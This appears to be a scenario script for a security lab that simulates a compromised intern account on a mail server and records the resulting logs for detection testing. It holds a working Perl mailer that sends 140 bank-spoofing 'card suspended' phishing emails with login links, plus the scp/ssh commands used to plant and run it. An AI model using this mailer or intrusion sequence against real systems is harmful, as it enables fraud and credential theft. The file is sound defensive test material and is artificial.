title="A stolen login is used to send phish to many through the own server"
what="intern's password is used from 192.0.2.99: a list and a perl script come by scp, the script runs under nohup and hands 140 letters one by one to sendmail -t with an envelope sender of a bank; intern works before and after from the own desk and writes one mail. Commands and connections recorded, iso syslog."
host=mx1.example.org user=intern daemons="cron sshd" audit_rules=audit-net.rules syslog_format=iso
setup() {
  cat > "$base/out/s.pl" <<'P'
#!/usr/bin/perl
open L, 'list.csv'; my @l = <L>; my $n = 0;
foreach my $to (@l) { chomp $to; $n++;
  open M, '|-', '/usr/sbin/sendmail', '-t', '-f', 'service@bank.example.net' or next;
  print M "From: Service <service\@bank.example.net>\nTo: $to\nSubject: Your card was suspended (ref $n)\nContent-Type: text/html\n\n<p>Dear customer, <a href=\"http://files.example.net/login?$n\">confirm here</a></p>\n";
  close M; select undef, undef, undef, 0.05; }
P
  for i in $(seq 140); do echo "customer$i@example.$([ $((i % 2)) = 0 ] && echo com || echo net)"; done > "$base/out/list.csv"
}
act() {
  small_talk 4
  ssh_as intern <<'L'
ls
echo "I am late today" | mail -s "late" clerk@example.org
L
  outside scp -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=192.0.2.99 -i /root/key "$base/out/s.pl" "$base/out/list.csv" "intern@$host_ip:" || note scp
  python3 "$lab/lib/type.py" -- nsenter -t "$outside_pid" -n -- ssh -tt -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=192.0.2.99 -i /root/key "intern@$host_ip" <<'L'
wc -l list.csv
nohup perl s.pl >/dev/null 2>&1 &
%sleep 1
exit
L
  small_talk 2; wait_log_count 'from=<service@bank.example.net>' 140 40
  ssh_as intern <<'L'
ls -l
L
}
truth() {
  exec_step run 'perl s.pl' 'the mailer is started'
  mail_step sent 'from=<service@bank.example.net>' 'letters of a bank are handed in'
}
